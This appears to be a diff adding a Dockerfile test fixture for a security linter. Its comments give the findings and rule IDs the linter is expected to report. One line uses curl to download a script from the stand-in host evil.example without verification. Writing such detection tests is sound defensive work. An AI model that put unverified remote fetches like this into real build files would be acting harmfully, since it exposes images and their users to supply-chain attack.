@@ -1,0 +1,6 @@
+FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
+RUN if true; then curl -o /x https://evil.example/x.sh; fi
+USER app
+# expect: download 2 high "curl fetches https://evil.example/x.sh to /x: not verified"
+# expect-count: 3
+# expect-ids: VR101-c33602e201 VR301-767a1989de VR501-e064bac1a6
